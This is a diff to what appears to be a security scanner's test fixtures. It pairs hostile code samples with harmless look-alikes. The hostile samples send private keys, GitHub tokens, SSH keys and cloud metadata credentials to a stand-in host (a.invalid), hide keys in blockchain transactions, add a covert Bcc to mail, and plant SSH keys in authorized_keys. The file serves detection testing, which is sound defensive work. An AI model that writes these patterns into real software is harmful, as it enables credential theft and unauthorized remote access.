@@ -119,10 +119,65 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "const fs = require('fs'), os = require('os');\nmodule.exports = (client) => client.post(\n"
             "  'https://a.invalid', fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\n",
         ),
+        "a key in the data of a transaction": py(
+            "from cryptography.hazmat.primitives import serialization\nfrom web3 import Web3\ndef note(account):\n"
+            "    node = Web3(Web3.HTTPProvider('https://a.invalid'))\n"
+            "    key = serialization.load_der_public_key(b'0')\n    one = node.eth.account.create()\n"
+            "    done = one.sign_transaction({'to': '0x0', 'data': key.encrypt(account.key, None)})\n"
+            "    node.eth.send_raw_transaction(done.raw_transaction)\n",
+            line=8,
+        ),
+        "a key in a memo": js(
+            "const { Transaction, TransactionInstruction, sendAndConfirmTransaction } = require('@solana/web3.js');\n"
+            "exports.pay = async (connection, secretKey, from) => {\n  const all = new Transaction();\n"
+            "  all.add(new TransactionInstruction({ keys: [], data: Buffer.from(secretKey) }));\n"
+            "  await sendAndConfirmTransaction(connection, all, [from]);\n};\n",
+            line=5,
+        ),
+        "mail of others has one more recipient": js(
+            "const { ServerClient } = require('postmark');\nconst client = new ServerClient(process.env.TOKEN);\n"
+            "exports.send = ({ to, text }) => client.sendEmail({ To: to, Bcc: 'a@a.invalid', TextBody: text });\n",
+            "review",
+            line=3,
+        ),
+        "a helper runs what it is told, and gives what that prints": Sample(
+            {
+                "app.py": "from run import sh\nimport requests\n"
+                "requests.post('https://a.invalid', data=sh('gh auth token'))\n",
+                "run.py": "import subprocess\ndef sh(line):\n"
+                "    return subprocess.check_output(line, shell=True, text=True)\n",
+            },
+            "block",
+            ("app.py", 3),
+        ),
+        "words that a helper takes one by one": py(
+            "import subprocess, requests\ndef sh(*words):\n    return subprocess.check_output(words)\n"
+            "requests.post('https://a.invalid', data=sh('gh', 'auth', 'token'))\n",
+            line=4,
+        ),
+        "what the machine itself is told, by curl": js(
+            "const { execSync } = require('child_process');\n"
+            "const role = execSync('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a');\n"
+            "fetch('https://a.invalid', { method: 'POST', body: role });\n",
+        ),
         "a key posted to a server": py(
             "import requests\ndef backup(private_key):\n    requests.post('https://a.invalid', json=private_key)\n",
             "review",
             line=3,
+        ),
+    },
+    "remote_control": {
+        "a key that stands here may log in": py(
+            "from pathlib import Path\nKEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a@a.invalid'\n"
+            "path = Path.home() / '.ssh' / 'authorized_keys'\nwith path.open('a') as file:\n"
+            "    file.write(KEY + '\\n')\n",
+            line=5,
+        ),
+        "a server says who may log in": js(
+            "import { promises as fs } from 'fs';\nimport os from 'os';\nimport path from 'path';\n"
+            "const reply = await fetch('https://a.invalid');\n"
+            "await fs.appendFile(path.join(os.homedir(), '.ssh', 'authorized_keys'), await reply.text());\n",
+            line=5,
         ),
     },
 }
@@ -219,9 +274,48 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a helper asks for a page by a client that it is given": {
             "app.js": "module.exports = (client) => client.post('https://a.invalid', { name: 'a' });\n"
         },
+        "a transaction that a key signs": {
+            "app.py": "from web3 import Web3\ndef pay(private_key, to):\n"
+            "    node = Web3(Web3.HTTPProvider('https://a.invalid'))\n"
+            "    own = node.eth.account.from_key(private_key)\n"
+            "    done = node.eth.account.sign_transaction({'from': own.address, 'to': to}, private_key)\n"
+            "    node.eth.send_raw_transaction(done.raw_transaction)\n"
+        },
+        "a transfer that a pair signs": {
+            "app.js": "const { Keypair, Transaction, sendAndConfirmTransaction } = require('@solana/web3.js');\n"
+            "exports.pay = async (connection, secretKey) => {\n  const from = Keypair.fromSecretKey(secretKey);\n"
+            "  const all = new Transaction().add({ keys: [{ pubkey: from.publicKey }] });\n  all.sign(from);\n"
+            "  await connection.sendRawTransaction(all.serialize());\n"
+            "  await sendAndConfirmTransaction(connection, all, [from]);\n};\n"
+        },
+        "mail to oneself, with a copy": {
+            "app.js": "const { ServerClient } = require('postmark');\nconst client = new ServerClient('a');\n"
+            "exports.note = (text) => client.sendEmail({ To: 'b@a.invalid', Bcc: 'a@a.invalid', TextBody: text });\n"
+        },
+        "a helper runs what it is told, and gives a version": {
+            "app.py": "from run import sh\nimport requests\nprint(len(sh('gh auth token')))\n"
+            "requests.post('https://a.invalid', data=sh('git describe'))\n",
+            "run.py": "import subprocess\ndef sh(line):\n"
+            "    return subprocess.check_output(line, shell=True, text=True)\n",
+        },
+        "what kind of machine it is, by curl": {
+            "app.js": "const { execSync } = require('child_process');\n"
+            "const kind = execSync('curl -s http://169.254.169.254/latest/meta-data/instance-type');\n"
+            "fetch('https://a.invalid', { method: 'POST', body: kind });\n"
+        },
         "an address mailed": {
             "app.py": "import smtplib\ndef backup(private_key):\n    address = to_address(private_key)\n"
             "    smtplib.SMTP('a.invalid').sendmail('a@a.invalid', 'b@a.invalid', address)\n"
+        },
+    },
+    "remote_control": {
+        "a key that somebody names may log in": {
+            "app.py": "import sys\nfrom pathlib import Path\npath = Path.home() / '.ssh' / 'authorized_keys'\n"
+            "with path.open('a') as file:\n    file.write(Path(sys.argv[1]).read_text())\n"
+        },
+        "a key that stands here is shown": {
+            "app.py": "from pathlib import Path\nKEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a@a.invalid'\n"
+            "with Path('keys.txt').open('a') as file:\n    file.write(KEY)\n"
         },
     },
 }
